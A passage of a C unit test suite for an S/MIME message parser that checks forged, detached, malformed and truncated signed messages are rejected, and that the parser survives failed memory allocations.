	struct buffer opaque = layered("o", PLAIN), text = BUFFER_INIT(1 << 20);
	char *base64 = strstr(opaque.data, "\r\n\r\n") + 4;
	struct error e = ERROR_INIT;
	struct opening o;

	expect_ok(buffer_append_format(&text, &e,
	    "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=x\r\n\r\n--x\r\n"
	    "Content-Type: text/plain\r\n\r\nsend the money to evil\r\n\r\n--x\r\nContent-Type: application/pkcs7-signature\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--x--\r\n",
	    base64));
	o = open_text(text, &bobs);
	ck_assert_int_eq(o.layers->items[0].signature.status, SIGNATURE_MALFORMED);
	opening_done(&o);
	buffer_done(&opaque);
}
END_TEST

START_TEST(refuses_a_detached_signature_where_content_must_be)
{
	struct buffer clear = layered("s", PLAIN), der, text;
	struct message m = message_of(buffer_text(&clear));
	struct opening o;

	der = content_of(m.root->parts[1]);
	text = wrapped(&der, "signed-data");
	o = open_text(text, &bobs);
	ck_assert(o.layers->items[0].is_signed);
	ck_assert_int_eq(o.layers->items[0].signature.status, SIGNATURE_MALFORMED);
	opening_done(&o);
	buffer_done(&der);
	message_done(&m);
	buffer_done(&clear);
}
END_TEST

START_TEST(reads_rubbish_under_every_label_without_harm)
{
	static const char *const rubbish[] = {
		"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n\r\nrubbish\r\n",
		"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqG\r\n",
		"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!!\r\n",
		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"\r\n\r\nno boundary\r\n",
		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n",
		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n--x\r\n\r\na\r\n--x--\r\n",
		"Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n--x\r\n\r\na\r\n--x\r\n\r\nb\r\n--x--\r\n",
	};

	for (size_t i = 0; i < sizeof(rubbish) / sizeof(rubbish[0]); i++) {
		struct message m = message_of(rubbish[i]);
		struct smime_layers *layers = opened(&m, &bobs);

		ck_assert_uint_eq(layers->count, 1);
		ck_assert(!layers->opened);
		if (layers->items[0].is_signed)
			ck_assert_int_eq(layers->items[0].signature.status, SIGNATURE_MALFORMED);
		else
			ck_assert_str_eq(layers->items[0].closed_reason, "malformed");
		layers_free(layers);
		message_done(&m);
	}
}
END_TEST

START_TEST(reads_every_truncation_without_harm)
{
	static const char *const kinds[] = { "sc", "sz" };
	struct buffer text = layered(kinds[_i], PLAIN);

	for (size_t n = 0; n < text.size; n += n < 400 ? 1 : 41) {
		struct message m;
		struct error e = ERROR_INIT;

		if (message_open(&m, text.data, n, &e) != 0)
			continue;
		layers_free(opened(&m, &bobs));
		message_done(&m);
	}
	buffer_done(&text);
}
END_TEST

static int
open_once(void *ctx, struct error *e)
{
	const struct message *m = ctx;
	struct ring nobody = { .reason = "none" };
	const struct layer_keys keys = ring_keys(&nobody);
	struct smime_layers *layers = NULL;
	int rc = layers_open(m->root, &keys, &workspace, NULL, &layers, e);

	layers_free(layers);
	return rc;
}

START_TEST(survives_want_of_memory_anywhere)
{
	struct buffer text = layered("ozs", PLAIN);
	struct message m = message_of(buffer_text(&text));

	each_allocation_fails(open_once, &m);
	message_done(&m);
	buffer_done(&text);
}
END_TEST

#define LOOP(t, test, table) tcase_add_loop_test((t), test, 0, sizeof(table) / sizeof((table)[0]))

Suite *
suite_layers(void)
{
	Suite *s = suite_create("layers");
	TCase *t = tcase_create("open");

	tcase_add_checked_fixture(t, make_people, drop_people);
	LOOP(t, opens_layers_in_any_order, shapes);
	tcase_add_test(t, keeps_a_clear_signature_that_was_inside);
	tcase_add_test(t, takes_off_an_opaque_layer_whose_signature_is_bad);
	LOOP(t, takes_signatures_off_from_the_outside_as_far_as_it_may, removals);
	LOOP(t, leaves_compressed_data_as_it_came_when_it_is_odd, bad_compressions);
	tcase_add_test(t, delivers_odd_compressed_data_out_of_an_envelope_and_a_signature_over_it_holds);
	tcase_add_test(t, unpacks_nothing_whose_label_is_ambiguous);
	tcase_add_test(t, believes_no_label_that_promises_nothing_but_certificates);
	tcase_add_test(t, stops_at_more_layers_than_any_honest_message_has);
	tcase_add_test(t, delivers_an_inner_layer_that_is_for_somebody_else);
	LOOP(t, opens_what_real_software_writes, entities);
	tcase_add_loop_test(t, opens_for_two_owners_only_what_was_encrypted_to_both, 0, PROFILE_COUNT);
	suite_add_tcase(s, t);
	t = tcase_create("closed");
	tcase_add_checked_fixture(t, make_people, drop_people);
	tcase_add_test(t, does_not_look_for_encrypted_parts_within_a_message);
	tcase_add_test(t, stays_closed_when_no_key_is_given_and_says_why);
	tcase_add_test(t, says_which_algorithm_stands_in_the_way);
	tcase_add_loop_test(t, fails_alike_whatever_is_wrong_behind_the_key, 0, WRONG_COUNT);
	tcase_add_loop_test(t, closes_the_whole_message_when_an_inner_layer_fails, 0, WRONG_COUNT);
	LOOP(t, opens_nothing_but_one_well_formed_entity, no_entities);
	tcase_add_test(t, does_not_open_below_an_ambiguous_header);
	tcase_add_loop_test(t, does_not_open_for_an_owner_whose_recipient_info_was_made_up, 0, PROFILE_COUNT);
	tcase_add_loop_test(t, tries_no_more_keys_than_the_bound, 0, 2);
	tcase_add_test(t, reports_a_fault_before_any_key_was_tried);
	tcase_add_test(t, hides_a_fault_once_a_key_was_tried);
	suite_add_tcase(s, t);
	t = tcase_create("signed");
	tcase_add_checked_fixture(t, make_people, drop_people);
	tcase_add_test(t, sees_what_a_clear_signature_does_not_cover);
	tcase_add_test(t, sees_a_second_part_that_is_shown);
	tcase_add_test(t, sees_a_third_part);
	tcase_add_test(t, sees_a_multipart_that_does_not_end);
	tcase_add_test(t, opens_nothing_below_a_signature_that_does_not_cover_all);
	tcase_add_test(t, sees_changed_content);
	tcase_add_test(t, refuses_a_detached_signature_that_carries_content_of_its_own);
	tcase_add_test(t, refuses_a_detached_signature_where_content_must_be);
	tcase_add_test(t, reads_rubbish_under_every_label_without_harm);
	tcase_add_loop_test(t, reads_every_truncation_without_harm, 0, 2);
	tcase_add_test(t, survives_want_of_memory_anywhere);
	suite_add_tcase(s, t);
	return s;
}
